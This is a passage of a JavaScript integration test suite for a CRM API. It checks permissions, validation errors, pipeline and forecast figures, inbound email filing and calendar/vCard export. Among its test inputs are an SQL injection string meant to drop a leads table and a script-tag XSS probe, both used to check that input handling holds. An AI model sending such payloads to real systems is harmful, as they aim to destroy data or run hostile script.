      await refuse(null, 'POST', `${CRM}/forms/${form.token}/submit`, new URLSearchParams({ ...hostile, phone: "1'; DROP TABLE crm_leads;--" }).toString(), 422, 'input_invalid', { field: 'phone', fieldCode: 'lead_phone_invalid', headers: { 'content-type': 'application/x-www-form-urlencoded' } });
    });

    it('keeps record rules: own for sales, team for its leader, read-only viewer, other company 404', async () => {
      const lead = (who, name) => created(who, `${CRM}/leads`, { contact_name: name, email: `${name.toLowerCase().replace(/ /g, '.')}@rules.example` });
      const l1 = await lead(as.sales1, 'Sally One');
      const l2 = await lead(as.sales2, 'Sid Two');
      const l3 = await lead(as.adminA, 'Ada Admin');
      const lm = await created(as.manager, `${CRM}/leads`, { contact_name: 'For Sally', email: 'for.sally@rules.example', owner_id: ids.sales1 });
      assert.equal(lm.owner_id, ids.sales1, 'a team leader may give a lead to a member');
      const opp = (who, title) => created(who, `${CRM}/opportunities`, { title, partner_id: ids.partner, expected_revenue: '100.00', stage_id: ids.stages[0] });
      const o1 = await opp(as.sales1, 'Sally deal');
      const o2 = await opp(as.sales2, 'Sid deal');
      const o3 = await opp(as.adminA, 'Admin deal');
      const listed = async (who, noun) => (await ok(who, 'GET', `${CRM}/${noun}?limit=500`)).items.map((x) => x.id);

      const s1Leads = await listed(as.sales1, 'leads');
      assert.ok(s1Leads.includes(l1.id) && s1Leads.includes(lm.id));
      assert.ok(!s1Leads.includes(l2.id) && !s1Leads.includes(l3.id));
      const s1Opps = await listed(as.sales1, 'opportunities');
      assert.deepEqual(s1Opps.filter((id) => [o1.id, o2.id, o3.id].includes(id)), [o1.id]);
      await refuse(as.sales1, 'GET', `${CRM}/leads/${l2.id}`, undefined, 404, 'lead_not_found');
      await refuse(as.sales1, 'GET', `${CRM}/opportunities/${o2.id}`, undefined, 404, 'opportunity_not_found');
      await refuse(as.sales1, 'POST', `${CRM}/opportunities/${o2.id}/move`, { version: o2.version, stage_id: ids.stages[1] }, 404, 'opportunity_not_found');
      await refuse(as.sales1, 'POST', `${CRM}/leads/${l2.id}/qualify`, { version: l2.version }, 404, 'lead_not_found');
      await refuse(as.sales1, 'PUT', `${CRM}/leads/${l1.id}`, { contact_name: 'Sally One', owner_id: ids.sales2, version: l1.version }, 403, 'permission_denied');
      await refuse(as.sales1, 'POST', `${CRM}/opportunities`, { title: 'For Sid', owner_id: ids.sales2 }, 403, 'permission_denied');
      const s1Pipeline = await pipelineOf(as.sales1);
      const cards = s1Pipeline.columns.flatMap((c) => c.cards.map((x) => x.id));
      assert.ok(cards.includes(o1.id) && !cards.includes(o2.id) && !cards.includes(o3.id));

      const mLeads = await listed(as.manager, 'leads');
      assert.ok(mLeads.includes(l1.id) && mLeads.includes(lm.id), 'the leader sees the member’s leads');
      assert.ok(!mLeads.includes(l2.id) && !mLeads.includes(l3.id));
      const mOpps = await listed(as.manager, 'opportunities');
      assert.ok(mOpps.includes(o1.id) && !mOpps.includes(o2.id) && !mOpps.includes(o3.id));
      assert.equal((await ok(as.manager, 'GET', `${CRM}/opportunities/${o1.id}`)).id, o1.id);
      await refuse(as.manager, 'GET', `${CRM}/opportunities/${o2.id}`, undefined, 404, 'opportunity_not_found');
      await refuse(as.manager, 'GET', `${CRM}/leads/${l3.id}`, undefined, 404, 'lead_not_found');

      const vLeads = await listed(as.viewer, 'leads');
      assert.ok([l1.id, l2.id, l3.id].every((id) => vLeads.includes(id)), 'the viewer reads all');
      await refuse(as.viewer, 'POST', `${CRM}/opportunities/${o1.id}/move`, { version: o1.version, stage_id: ids.stages[1] }, 403, 'permission_denied');
      await refuse(as.viewer, 'POST', `${CRM}/activities`, { kind: 'note', subject: 'Viewer note', lead_id: l1.id }, 403, 'permission_denied');
      await refuse(as.viewer, 'GET', `${CRM}/forecast?from=${month()}`, undefined, 403, 'permission_denied');
      await refuse(as.viewer, 'POST', `${CRM}/teams`, { name: 'Viewers', leader_id: ids.viewer }, 403, 'permission_denied');

      for (const [path, code] of [[`leads/${l1.id}`, 'lead_not_found'], [`opportunities/${o1.id}`, 'opportunity_not_found']]) {
        await refuse(as.adminB, 'GET', `${CRM}/${path}`, undefined, 404, code);
      }
      await refuse(as.adminB, 'PUT', `${CRM}/opportunities/${o1.id}`, { title: 'Hijacked', version: o1.version }, 404, 'opportunity_not_found');
      await refuse(as.adminB, 'POST', `${CRM}/leads/${l1.id}/convert`, { version: l1.version }, 404, 'lead_not_found');
      await refuse(as.adminB, 'GET', `${CRM}/timeline?opportunity_id=${o1.id}`, undefined, 404, 'opportunity_not_found');
      await refuse(as.adminB, 'GET', `${CRM}/timeline?partner_id=${ids.partner}`, undefined, 404, 'partner_not_found');
      const bLeads = await listed(as.adminB, 'leads');
      assert.ok(![l1.id, l2.id, l3.id].some((id) => bLeads.includes(id)));
      const bPipeline = await pipelineOf(as.adminB);
      assert.equal(bPipeline.columns.reduce((n, c) => n + c.count, 0), 0);

      const note = await created(as.sales1, `${CRM}/activities`, { kind: 'note', subject: 'Sally private note', opportunity_id: o1.id });
      await refuse(as.sales2, 'GET', `${CRM}/activities/${note.id}`, undefined, 404, 'activity_not_found');
      await refuse(as.sales2, 'GET', `${CRM}/timeline?opportunity_id=${o1.id}`, undefined, 404, 'opportunity_not_found');
      ids.rules = { l1, l2, o1, o2, note };
    });

    it('refuses bad opportunities, kanban moves, wins, losses and quotes', async () => {
      const A = as.adminA;
      const base = { title: 'Refused deal', partner_id: ids.partner, expected_revenue: '10.00' };
      await refuse(A, 'POST', `${CRM}/opportunities`, {}, 422, 'input_invalid', { field: 'title' });
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, expected_revenue: '-1.00' }, 422, 'input_invalid', { field: 'expected_revenue', fieldCode: 'amount_negative' });
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, expected_revenue: '1.005' }, 422, 'input_invalid', { field: 'expected_revenue' });
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, stage_id: ids.stageB }, 422, 'stage_not_found');
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, partner_id: ids.partnerB }, 422, 'partner_not_found');
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, owner_id: MISSING }, 422, 'user_not_found');
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, team_id: ids.teamB }, 422, 'team_not_found');
      await refuse(A, 'POST', `${CRM}/opportunities`, { ...base, campaign_id: MISSING }, 422, 'campaign_not_found');
      await refuse(A, 'GET', `${CRM}/opportunities?state=pending`, undefined, 422, 'opportunity_state_invalid');
      await refuse(A, 'GET', `${CRM}/opportunities?q=${'q'.repeat(301)}`, undefined, 422, 'search_query_too_long');
      await refuse(A, 'GET', `${CRM}/opportunities?stage_id=-1`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/opportunities/${MISSING}`, undefined, 404, 'opportunity_not_found');
      await refuse(A, 'GET', `${CRM}/pipeline?cards=101`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/pipeline?owner_id=me`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/forecast?from=2026-00`, undefined, 422, 'forecast_month_invalid');
      await refuse(A, 'GET', `${CRM}/forecast?from=${month(1)}&to=${month()}`, undefined, 422, 'forecast_month_invalid');
      await refuse(A, 'GET', `${CRM}/forecast?from=${month()}&to=${month(24)}`, undefined, 422, 'forecast_range_too_long');
      await refuse(A, 'GET', `${CRM}/forecast?from=${month()}&group_by=region`, undefined, 422, 'forecast_group_invalid');

      const deal = await created(A, `${CRM}/opportunities`, base);
      const path = `${CRM}/opportunities/${deal.id}`;
      await refuse(A, 'PUT', path, { ...base, version: deal.version + 1 }, 409, 'version_conflict');
      await refuse(A, 'PUT', path, base, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'PUT', path, { ...base, stage_id: MISSING, version: deal.version }, 422, 'stage_not_found');
      await refuse(A, 'PUT', path, { ...base, partner_id: MISSING, version: deal.version }, 422, 'partner_not_found');
      await refuse(A, 'PUT', path, { ...base, owner_id: ids.adminB, version: deal.version }, 422, 'user_not_found');
      await refuse(A, 'PUT', path, { ...base, team_id: MISSING, version: deal.version }, 422, 'team_not_found');
      await refuse(A, 'PUT', path, { ...base, campaign_id: MISSING, version: deal.version }, 422, 'campaign_not_found');
      await refuse(as.sales1, 'PUT', `${CRM}/opportunities/${ids.rules.o1.id}`, { ...base, owner_id: ids.sales2, version: ids.rules.o1.version }, 403, 'permission_denied');
      await refuse(A, 'PUT', `${CRM}/opportunities/${MISSING}`, { ...base, version: 1 }, 404, 'opportunity_not_found');
      await refuse(A, 'POST', `${path}/move`, { version: deal.version }, 422, 'input_invalid', { field: 'stage_id' });
      await refuse(A, 'POST', `${path}/move`, { version: deal.version, stage_id: ids.stageB }, 422, 'stage_not_found');
      await refuse(A, 'POST', `${path}/move`, { version: deal.version + 5, stage_id: ids.stages[1] }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/opportunities/${MISSING}/move`, { version: 1, stage_id: ids.stages[1] }, 404, 'opportunity_not_found');
      await refuse(A, 'POST', `${path}/lose`, { version: deal.version, reason: '' }, 422, 'lost_reason_required');
      await refuse(A, 'POST', `${path}/lose`, { reason: 'price' }, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${path}/lose`, { version: 42, reason: 'price' }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/opportunities/${MISSING}/lose`, { version: 1, reason: 'price' }, 404, 'opportunity_not_found');
      await refuse(A, 'POST', `${path}/reopen`, { version: deal.version }, 409, 'opportunity_state_invalid');
      await refuse(A, 'POST', `${path}/reopen`, {}, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${path}/reopen`, { version: 42 }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/opportunities/${MISSING}/reopen`, { version: 1 }, 404, 'opportunity_not_found');
      await refuse(A, 'POST', `${path}/win`, { version: deal.version, quote_id: MISSING }, 404, 'quote_not_found');
      await refuse(A, 'POST', `${path}/win`, {}, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${path}/win`, { version: 42 }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/opportunities/${MISSING}/win`, { version: 1 }, 404, 'opportunity_not_found');

      // Quotes go through sales; its refusals come back unchanged and write nothing.
      const line = { product_id: ids.product, quantity: '2' };
      await refuse(A, 'POST', `${path}/quote`, {}, 422, 'input_invalid', { field: 'lines', fieldCode: 'field_required' });
      await refuse(A, 'POST', `${path}/quote`, { lines: Array.from({ length: 501 }, () => line) }, 422, 'input_invalid', { field: 'lines', fieldCode: 'quote_lines_too_many' });
      await refuse(A, 'POST', `${path}/quote`, { lines: [{ quantity: '1' }] }, 422, 'input_invalid', { field: 'lines/0/product_id', fieldCode: 'field_required' });
      await refuse(A, 'POST', `${path}/quote`, { lines: [] }, 422, 'quote_lines_missing');
      await refuse(A, 'POST', `${path}/quote`, { lines: [{ ...line, product_id: MISSING }] }, 422, 'product_not_found');
      await refuse(A, 'POST', `${path}/quote`, { lines: [{ ...line, quantity: '0' }] }, 422, 'quantity_invalid');
      await refuse(A, 'POST', `${path}/quote`, { lines: [{ ...line, discount_percent: '150' }] }, 422, 'discount_invalid');
      await refuse(A, 'POST', `${path}/quote`, { currency: 'XYZ', lines: [line] }, 422, 'currency_invalid');
      await refuse(A, 'POST', `${path}/quote`, { valid_until: '2000-01-01', lines: [line] }, 422, 'valid_until_invalid');
      await refuse(A, 'POST', `${CRM}/opportunities/${MISSING}/quote`, { lines: [line] }, 404, 'opportunity_not_found');
      await refuse(as.viewer, 'POST', `${path}/quote`, { lines: [line] }, 403, 'permission_denied');
      const bare = await created(A, `${CRM}/opportunities`, { title: 'No partner yet' });
      await refuse(A, 'POST', `${CRM}/opportunities/${bare.id}/quote`, { lines: [line] }, 422, 'opportunity_partner_missing');
      await refuse(A, 'POST', `${CRM}/opportunities/${bare.id}/win`, { version: bare.version, quote_id: MISSING }, 404, 'quote_not_found');

      const quoted = await ok(A, 'POST', `${path}/quote`, { lines: [line] });
      assert.ok(quoted.quote_id);
      assert.equal(quoted.expected_revenue, '500.00', 'the quote’s untaxed amount becomes the expected revenue');
      await refuse(A, 'POST', `${path}/quote`, { lines: [line] }, 409, 'quote_already_linked');
      // A quote of another partner cannot win this deal.
      const other = await created(A, `${CRM}/opportunities`, { title: 'Borealis deal', partner_id: ids.otherPartner });
      const otherQuoted = await ok(A, 'POST', `${CRM}/opportunities/${other.id}/quote`, { lines: [line] });
      await refuse(A, 'POST', `${path}/win`, { version: quoted.version, quote_id: otherQuoted.quote_id }, 422, 'quote_partner_mismatch');
      await refuse(A, 'POST', `${CRM}/opportunities/${bare.id}/win`, { version: bare.version, quote_id: otherQuoted.quote_id }, 422, 'quote_partner_mismatch');

      const lost = await ok(A, 'POST', `${path}/lose`, { version: quoted.version, reason: 'went elsewhere' });
      assert.equal(lost.state, 'lost');
      assert.equal(lost.probability, 0);
      for (const [command, body] of [['move', { stage_id: ids.stages[1] }], ['win', {}], ['lose', { reason: 'twice' }], ['quote', { lines: [line] }]]) {
        await refuse(A, 'POST', `${path}/${command}`, { ...body, ...(command === 'quote' ? {} : { version: lost.version }) }, 409, 'opportunity_state_invalid');
      }
      await refuse(A, 'PUT', path, { ...base, version: lost.version }, 409, 'opportunity_state_invalid');
      const reopened = await ok(A, 'POST', `${path}/reopen`, { version: lost.version });
      assert.equal(reopened.state, 'open');
      assert.equal(reopened.lost_reason, '');
      assert.equal(reopened.closed_at, null);
    });

    it('refuses bad activities, task completions, timelines and reminders', async () => {
      const A = as.adminA;
      const { o1 } = ids.rules;
      const note = { kind: 'note', subject: 'A note', partner_id: ids.partner };
      await refuse(A, 'POST', `${CRM}/activities`, {}, 422, 'input_invalid');
      await refuse(A, 'POST', `${CRM}/activities`, { kind: 'note', subject: 'Nowhere' }, 422, 'input_invalid', { field: 'partner_id', fieldCode: 'activity_target_missing' });
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, kind: 'telepathy' }, 422, 'input_invalid', { field: 'kind', fieldCode: 'activity_kind_invalid' });
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, kind: 'task' }, 422, 'input_invalid', { field: 'due_date', fieldCode: 'activity_due_date_missing' });
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, kind: 'meeting', starts_at: '2026-05-01T10:00:00Z', ends_at: '2026-05-01T09:00:00Z' }, 422, 'input_invalid', { field: 'starts_at', fieldCode: 'activity_times_invalid' });
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, direction: 'sideways' }, 422, 'input_invalid', { field: 'direction', fieldCode: 'activity_direction_invalid' });
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, partner_id: ids.partnerB }, 422, 'partner_not_found');
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, partner_id: undefined, opportunity_id: MISSING }, 404, 'opportunity_not_found');
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, partner_id: undefined, lead_id: MISSING }, 404, 'lead_not_found');
      await refuse(A, 'POST', `${CRM}/activities`, { ...note, user_id: ids.adminB }, 422, 'user_not_found');
      await refuse(as.sales2, 'POST', `${CRM}/activities`, { ...note, partner_id: undefined, opportunity_id: o1.id }, 404, 'opportunity_not_found');
      await refuse(A, 'GET', `${CRM}/activities/${MISSING}`, undefined, 404, 'activity_not_found');

      const call = await created(A, `${CRM}/activities`, { kind: 'call', subject: 'Follow-up call', direction: 'outbound', opportunity_id: o1.id });
      assert.equal(call.partner_id, ids.partner, 'an opportunity’s activity is filed under its partner');
      const task = await created(A, `${CRM}/activities`, { kind: 'task', subject: 'Send the brochure', partner_id: ids.partner, due_date: dayAfter(-2) });
      assert.equal(task.overdue, true);
      assert.equal(task.done_at, null);
      const reminders = await ok(A, 'GET', `${CRM}/reminders`);
      assert.ok(reminders.overdue.some((t) => t.id === task.id));
      await refuse(A, 'POST', `${CRM}/activities/${call.id}/complete`, { version: call.version }, 409, 'activity_not_a_task');
      await refuse(A, 'POST', `${CRM}/activities/${task.id}/complete`, {}, 422, 'input_invalid', { field: 'version' });
      await refuse(A, 'POST', `${CRM}/activities/${task.id}/complete`, { version: task.version + 1 }, 409, 'version_conflict');
      await refuse(A, 'POST', `${CRM}/activities/${MISSING}/complete`, { version: 1 }, 404, 'activity_not_found');
      const done = await ok(A, 'POST', `${CRM}/activities/${task.id}/complete`, { version: task.version });
      assert.ok(done.done_at);
      assert.equal(done.overdue, false);
      await refuse(A, 'POST', `${CRM}/activities/${task.id}/complete`, { version: done.version }, 409, 'activity_done');
      assert.ok(!(await ok(A, 'GET', `${CRM}/reminders`)).overdue.some((t) => t.id === task.id));

      await refuse(A, 'GET', `${CRM}/timeline`, undefined, 422, 'timeline_target_missing');
      await refuse(A, 'GET', `${CRM}/timeline?partner_id=${ids.partner}&opportunity_id=${o1.id}`, undefined, 422, 'timeline_target_missing');
      await refuse(A, 'GET', `${CRM}/timeline?partner_id=${MISSING}`, undefined, 404, 'partner_not_found');
      await refuse(A, 'GET', `${CRM}/timeline?opportunity_id=${MISSING}`, undefined, 404, 'opportunity_not_found');
      await refuse(A, 'GET', `${CRM}/timeline?lead_id=${MISSING}`, undefined, 404, 'lead_not_found');
      await refuse(A, 'GET', `${CRM}/timeline?partner_id=${ids.partner}&limit=x`, undefined, 422, 'list_parameter_invalid');
      await refuse(A, 'GET', `${CRM}/reminders?limit=-3`, undefined, 422, 'list_parameter_invalid');

      // The partner's timeline, newest first, paged with a cursor.
      const first = await ok(A, 'GET', `${CRM}/timeline?partner_id=${ids.partner}&limit=1`);
      assert.equal(first.items[0].id, task.id);
      assert.ok(first.next_cursor);
      const second = await ok(A, 'GET', `${CRM}/timeline?partner_id=${ids.partner}&limit=1&before=${first.next_cursor}`);
      assert.equal(second.items[0].id, call.id);
    });

    it('walks a lead to a won opportunity: duplicates, convert, kanban, quote, win, forecast, keel check', async () => {
      const A = as.adminA;
      const column = (p, stageId) => p.columns.find((c) => c.stage.id === stageId);
      const email = 'petra@walk.example';
      const lead = await created(A, `${CRM}/leads`, { contact_name: 'Petra Walk', company_name: 'Walkabout Ltd', email, phone: '+44 20 7946 0958', country: 'gb', employees: 80, campaign_id: ids.campaign });
      assert.equal(lead.country, 'GB');
      const echo = await created(A, `${CRM}/leads`, { contact_name: 'P. Walk', phone: '020 7946 0958' });
      assert.ok(echo.duplicates.some((d) => d.kind === 'lead' && d.id === lead.id && d.match === 'phone'), JSON.stringify(echo.duplicates));
      assert.ok((await ok(A, 'GET', `${CRM}/leads/${lead.id}`)).duplicates.some((d) => d.id === echo.id));
      await created(A, `${CRM}/activities`, { kind: 'email', subject: 'Brochure sent', lead_id: lead.id });
      const partnersBefore = (await ok(A, 'GET', '/api/v1/partners/stats')).total;

      const p0 = await pipelineOf(A);
      const closeDate = dayAfter(20);
      const converted = await ok(A, 'POST', `${CRM}/leads/${lead.id}/convert`, { version: lead.version, expected_revenue: '1000.00', close_date: closeDate, stage_id: ids.stages[0] });
      assert.equal(converted.lead.state, 'converted');
      assert.equal(converted.partner_created, true);
      assert.equal((await ok(A, 'GET', '/api/v1/partners/stats')).total, partnersBefore + 1);
      const partner = await ok(A, 'GET', `/api/v1/partners/${converted.partner_id}`);
      assert.equal(partner.name, 'Walkabout Ltd');
      const oppId = converted.opportunity_id;
      let opp = await ok(A, 'GET', `${CRM}/opportunities/${oppId}`);
      assert.equal(opp.lead_id, lead.id);
      assert.equal(opp.campaign_id, ids.campaign);
      assert.equal(opp.partner_id, converted.partner_id);
      assert.equal(opp.probability, 10);
      const filed = await ok(A, 'GET', `${CRM}/timeline?partner_id=${converted.partner_id}`);
      assert.ok(filed.items.some((a) => a.subject === 'Brochure sent'), 'the lead’s activities move to the partner');

      // The kanban moves by exactly the opportunity's amounts.
      const expectMove = (before, afterP, stageId, count, expected, weighted) => {
        const b = column(before, stageId);
        const a = column(afterP, stageId);
        assert.equal(a.count - b.count, count, `count in stage ${stageId}`);
        assert.equal(cents(a.expected) - cents(b.expected), expected, `expected in stage ${stageId}`);
        assert.equal(cents(a.weighted) - cents(b.weighted), weighted, `weighted in stage ${stageId}`);
      };
      const p1 = await pipelineOf(A);
      expectMove(p0, p1, ids.stages[0], 1, 100000n, 10000n);
      assert.equal(cents(p1.expected) - cents(p0.expected), 100000n);
      assert.ok(column(p1, ids.stages[0]).cards.some((c) => c.id === oppId));

      opp = await ok(A, 'POST', `${CRM}/opportunities/${oppId}/move`, { version: opp.version, stage_id: ids.stages[2] });
      assert.equal(opp.probability, 80);
      const p2 = await pipelineOf(A);
      expectMove(p1, p2, ids.stages[0], -1, -100000n, -10000n);
      expectMove(p1, p2, ids.stages[2], 1, 100000n, 80000n);
      assert.equal(p2.expected, p1.expected);

      // Quote it with a product made through the inventory API: 3 × 250.00 = 750.00 untaxed.
      const product = await created(A, '/api/v1/inventory/products', { type: 'service', sku: 'WALK-1', names: { en: 'Walk consulting' }, list_price: '250.00' });
      opp = await ok(A, 'POST', `${CRM}/opportunities/${oppId}/quote`, { lines: [{ product_id: product.id, quantity: '3' }] });
      const quote = await ok(A, 'GET', `/api/v1/sales/quotes/${opp.quote_id}`);
      assert.equal(quote.partner_id, converted.partner_id);
      assert.equal(opp.expected_revenue, '750.00');
      const p3 = await pipelineOf(A);
      expectMove(p2, p3, ids.stages[2], 0, -25000n, -20000n);

      const won = await ok(A, 'POST', `${CRM}/opportunities/${oppId}/win`, { version: opp.version, quote_id: opp.quote_id });
      assert.equal(won.state, 'won');
      assert.equal(won.probability, 100);
      assert.equal(won.quote_id, opp.quote_id);
      assert.ok(won.closed_at);
      const p4 = await pipelineOf(A);
      expectMove(p3, p4, ids.stages[2], -1, -75000n, -60000n);
      assert.equal(p4.won_count - p3.won_count, 1);
      assert.equal(cents(p4.won) - cents(p3.won), 75000n);
      assert.ok(p4.win_rate_percent !== null);

      // The forecast holds it in its close month, for its owner and with no team.
      const m = closeDate.slice(0, 7);
      await ok(A, 'PUT', `${CRM}/quotas`, { user_id: ids.adminA, month: m, amount: '3000.00' });
      const byOwner = await ok(A, 'GET', `${CRM}/forecast?from=${month()}&to=${month(11)}&group_by=owner`);
      const mine = byOwner.rows.find((r) => r.group_id === ids.adminA && r.month === m);
      assert.ok(mine, JSON.stringify(byOwner.rows));
      assert.equal(mine.won, '750.00');
      assert.equal(mine.quota, '3000.00');
      assert.equal(mine.attainment_percent, '25.0');
      const byTeam = await ok(A, 'GET', `${CRM}/forecast?from=${month()}&to=${month(11)}&group_by=team`);
      assert.ok(byTeam.rows.some((r) => r.group_id === 0 && r.month === m && cents(r.won) >= 75000n));

      await refuse(A, 'POST', `${CRM}/opportunities/${oppId}/win`, { version: won.version }, 409, 'opportunity_state_invalid');
      await refuse(A, 'POST', `${CRM}/leads/${lead.id}/convert`, { version: converted.lead.version }, 409, 'lead_state_invalid');

      // Exits non-zero, and so throws here, naming each breach.
      execFileSync(KEEL_BIN, ['check', '--db', db.url], { encoding: 'utf8', stdio: 'pipe' });
    });

    it('creates one lead for two POSTs with the same Idempotency-Key', async () => {
      const key = idempotencyKey();
      const before = await leadCount();
      const send = () => api('POST', `${CRM}/leads`, { token: as.adminA.token, headers: { 'idempotency-key': key }, body: { contact_name: 'Ida Empotent', email: 'ida@once.example' } });
      const first = await send();
      const second = await send();
      assert.equal(first.status, 201, first.text);
      assert.equal(second.status, 201, second.text);
      assert.equal(second.headers.get('idempotent-replayed'), 'true');
      assert.equal(second.json.id, first.json.id);
      assert.equal(await leadCount(), before + 1);
      const reused = await refuse(as.adminA, 'POST', `${CRM}/leads`, { contact_name: 'Someone Else' }, 422, 'idempotency_key_reused', { headers: { 'idempotency-key': key } });
      assert.equal(reused.status, 422);
    });

    // Regressions of defects found over HTTP.
    it('shows a partner’s timeline only to who may see the partner', async () => {
      const hidden = await created(as.adminA, '/api/v1/partners', { kind: 'organization', name: 'Confidential Holdings', roles: ['customer'] });
      await created(as.adminA, `${CRM}/activities`, { kind: 'note', subject: 'Board-level pricing', partner_id: hidden.id });
      assert.equal((await api('GET', `/api/v1/partners/${hidden.id}`, { token: as.sales2.token })).status, 404);
      const timeline = await api('GET', `${CRM}/timeline?partner_id=${hidden.id}`, { token: as.sales2.token });
      assert.ok(timeline.status === 404 || timeline.status === 422, `sales2 read ${timeline.text.slice(0, 300)}`);
    });

    it('lists as duplicates only leads and partners the caller may see', async () => {
      const secret = await created(as.adminA, `${CRM}/leads`, { contact_name: 'Admin Only Lead', email: 'shared@dupes.example' });
      const mine = await created(as.sales2, `${CRM}/leads`, { contact_name: 'Sid Lead', email: 'shared@dupes.example', company_name: 'Borealis Foods' });
      assert.equal((await api('GET', `${CRM}/leads/${secret.id}`, { token: as.sales2.token })).status, 404);
      assert.equal((await api('GET', `/api/v1/partners/${ids.otherPartner}`, { token: as.sales2.token })).status, 404);
      assert.deepEqual(mine.duplicates, [], JSON.stringify(mine.duplicates));
    });

    it('searches leads and opportunities by name the same way on both engines', async () => {
      await created(as.adminA, `${CRM}/leads`, { contact_name: 'Zelda Quist', email: 'zq@search.example' });
      const leads = (await ok(as.adminA, 'GET', `${CRM}/leads?q=Zelda`)).items;
      assert.ok(leads.some((l) => l.contact_name === 'Zelda Quist'), 'q=Zelda finds Zelda Quist');
      const opps = (await ok(as.adminA, 'GET', `${CRM}/opportunities?q=borealis`)).items;
      assert.ok(opps.some((o) => o.title === 'Borealis deal'), 'q=borealis finds Borealis deal');
    });

    it('names a missing rules array as required', async () => {
      const r = await api('PUT', `${CRM}/scoring-rules`, { token: as.adminA.token, body: {} });
      assert.equal(r.status, 422);
      assert.equal(r.json.fields[0].code, 'field_required', r.text);
    });

    it('files inbound email by thread, sender or new lead, once per Message-ID', async () => {
      const A = as.adminA;
      const rfc822 = { 'content-type': 'message/rfc822' };
      const mail = (from, id, subject, extra = '') =>
        `From: ${from}\r\nTo: sales@a.example\r\nSubject: ${subject}\r\nMessage-ID: <${id}>\r\n${extra}` +
        'Content-Type: text/plain; charset=utf-8\r\n\r\nHello,\r\n<script>alert(1)</script>\r\n';
      const send = (who, raw) => api('POST', `${CRM}/inbound-email`, { token: who.token, body: raw, headers: headersFor('POST', rfc822) });
      const first = await send(A, mail('New Person <New.Person@mail.example>', 'm1@mail.example', 'Hello'));
      assert.equal(first.status, 201, first.text);
      assert.equal(first.json.matched, 'new_lead');
      assert.equal(first.json.activity.kind, 'email');
      assert.equal(first.json.activity.direction, 'inbound');
      assert.match(first.json.activity.body, /<script>alert\(1\)<\/script>/);
      const lead = await ok(A, 'GET', `${CRM}/leads/${first.json.activity.lead_id}`);
      assert.equal(lead.email, 'new.person@mail.example');
      assert.equal(lead.source, 'email');
      const again = await send(A, mail('New Person <new.person@mail.example>', 'm1@mail.example', 'Hello'));
      assert.equal(again.status, 200, again.text);
      assert.equal(again.json.matched, 'duplicate');
      assert.equal(again.json.activity.id, first.json.activity.id);
      const reply = await send(A, mail('colleague@elsewhere.example', 'm2@elsewhere.example', 'Re: Hello',
        'In-Reply-To: <m1@mail.example>\r\nReferences: <m1@mail.example>\r\n'));
      assert.equal(reply.status, 201, reply.text);
      assert.equal(reply.json.matched, 'thread');
      assert.equal(reply.json.activity.lead_id, first.json.activity.lead_id);
      const timeline = await ok(A, 'GET', `${CRM}/timeline?lead_id=${first.json.activity.lead_id}`);
      assert.equal(timeline.items.filter((a) => a.kind === 'email').length, 2);

      await refuse(A, 'POST', `${CRM}/inbound-email`, 'no header block at all', 422, 'email_malformed', { headers: rfc822 });
      await refuse(A, 'POST', `${CRM}/inbound-email`, 'Subject: who am I\r\n\r\nbody\r\n', 422, 'email_from_missing', { headers: rfc822 });
      await refuse(A, 'POST', `${CRM}/inbound-email`, { raw: 'json' }, 400, 'content_type_unsupported');
      await refuse(as.sales1, 'POST', `${CRM}/inbound-email`, mail('x@y.example', 'm3@y.example', 'x'), 403, 'permission_denied', { headers: rfc822 });
      const huge = 'From: big@mail.example\r\n\r\n' + 'x'.repeat(16 * 1024 * 1024);
      await refuse(A, 'POST', `${CRM}/inbound-email`, huge, 413, 'body_too_large', { headers: rfc822 });
    });

    it('exports meetings as iCalendar and partners as vCard, and imports vCard contacts', async () => {
      const A = as.adminA;
      const day = dayAfter(3);
      const meeting = await created(A, `${CRM}/activities`, {
        kind: 'meeting', subject: 'Demo; pricing, next steps', partner_id: ids.partner,
        starts_at: `${day}T10:00:00Z`, ends_at: `${day}T11:00:00Z`,
      });
      const ics = await api('GET', `${CRM}/calendar.ics`, { token: A.token, raw: true });
      assert.equal(ics.status, 200, ics.text);
      assert.match(ics.headers.get('content-type'), /^text\/calendar/);
      assert.match(ics.text, /^BEGIN:VCALENDAR\r\n/);
      assert.ok(ics.text.includes(`UID:activity-${meeting.id}@`), ics.text);
      assert.ok(ics.text.includes('SUMMARY:Demo\\; pricing\\, next steps'), ics.text);
      assert.ok(ics.text.includes(`DTSTART:${day.replaceAll('-', '')}T100000Z`), ics.text);
      await refuse(A, 'GET', `${CRM}/calendar.ics?from=2026-01-01&to=2027-06-01`, undefined, 422, 'calendar_range_invalid');
      await refuse(A, 'GET', `${CRM}/calendar.ics?from=soon`, undefined, 422, 'list_parameter_invalid');

      const vcf = await api('GET', `${CRM}/contacts.vcf?q=Acme`, { token: A.token, raw: true });
      assert.equal(vcf.status, 200, vcf.text);
      assert.match(vcf.headers.get('content-type'), /^text\/vcard/);
      assert.ok(vcf.text.includes('FN:Acme Trading'), vcf.text);
      assert.ok(!vcf.text.includes('Borealis'), 'only the partners matching q');
      await refuse(A, 'GET', `${CRM}/contacts.vcf?q=${'x'.repeat(301)}`, undefined, 422, 'search_query_too_long');

      const vcard = { 'content-type': 'text/vcard' };
